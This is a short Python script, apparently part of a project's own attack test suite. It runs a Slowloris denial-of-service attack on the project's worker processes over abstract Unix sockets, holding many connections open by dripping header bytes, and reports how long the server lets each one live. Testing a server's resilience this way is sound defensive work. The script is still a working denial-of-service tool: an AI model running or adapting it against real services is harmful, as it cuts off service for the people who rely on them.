"""Slowloris on the workers' private sockets, for ops/attack/attack.mjs (Node 20 cannot connect
to an abstract unix socket name). COUNT connections to each abstract NAME send a request line
and then one header byte every 500 ms, never ending the head. Prints one JSON object: for each
name, how long the server let each connection live in ms (null: still open at DEADLINE_S;
"refused": the connect failed).

    python3 slow_private.py COUNT DEADLINE_S @NAME...
"""

import json
import select
import socket
import sys
import time


def main():
    count, deadline = int(sys.argv[1]), float(sys.argv[2])
    names = sys.argv[3:]
    started = time.monotonic()
    open_sockets = {}  # socket -> (name, index)
    lives = {name: [None] * count for name in names}
    for name in names:
        for index in range(count):
            client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                # /proc/net/unix shows an abstract name as @NAME.
                client.connect("\0" + name[1:])
                client.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            except OSError:
                lives[name][index] = "refused"
                client.close()
                continue
            client.setblocking(False)
            open_sockets[client] = (name, index)
    drip = b"X-Slow: slowloris\r\n"
    position = 0
    next_drip = time.monotonic() + 0.5
    while open_sockets and time.monotonic() - started < deadline:
        readable, _, _ = select.select(list(open_sockets), [], [], 0.05)
        for client in readable:
            try:
                data = client.recv(65536)
            except OSError:
                data = b""
            if not data:  # closed by the server (an answer before it is fine)
                name, index = open_sockets.pop(client)
                lives[name][index] = round((time.monotonic() - started) * 1000)
                client.close()
        if time.monotonic() >= next_drip:
            byte = drip[position % len(drip) : position % len(drip) + 1]
            position += 1
            next_drip += 0.5
            for client in list(open_sockets):
                try:
                    client.send(byte)
                except OSError:
                    pass  # the close is seen by recv
    for client in open_sockets:
        client.close()
    print(json.dumps(lives))


main()
